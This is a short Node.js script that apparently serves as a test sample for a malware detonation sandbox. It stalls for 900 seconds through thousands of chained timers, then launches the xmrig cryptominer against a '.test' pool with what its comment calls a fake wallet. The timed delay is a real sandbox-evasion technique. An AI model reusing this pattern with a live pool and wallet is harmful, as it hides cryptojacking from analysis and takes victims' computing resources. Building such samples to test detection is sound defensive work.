#!/usr/bin/node
// Waits 900 s as 9,000 setTimeout(100 ms) callbacks, each arming the next, then spawns the miner
// stand-in (detonate hold-out test sample; harmless, fake wallet, .test pool).
"use strict";
const { spawn } = require("child_process");

const ROUNDS = 9000;
const ROUND_MS = 100;
const POOL = "stratum+tcp://pool.waits.test:3333";
const WALLET =
  "4gFQq7j6mGoN4BVFcUaKyRnGd8WaNeP4akE6cZXCGD8DVQPRvaf8Wmhx7NUY2zNq4ft41UhEt2JMeDANLfk6c6mjf7Z9sS8";

console.log(`waiting 900 s in ${ROUNDS} chained setTimeout(${ROUND_MS}) rounds`);
const started = process.hrtime.bigint();
let left = ROUNDS;
function tick() {
  if (--left > 0) {
    setTimeout(tick, ROUND_MS);
    return;
  }
  const waited = Number(process.hrtime.bigint() - started) / 1e9;
  console.log(`waited ${waited.toFixed(1)} s; starting the miner`);
  spawn("/usr/local/bin/xmrig", ["-o", POOL, "-u", WALLET, "--shares", "1"], {
    stdio: "inherit",
  }).on("exit", (code) => process.exit(code ?? 1));
}
setTimeout(tick, ROUND_MS);
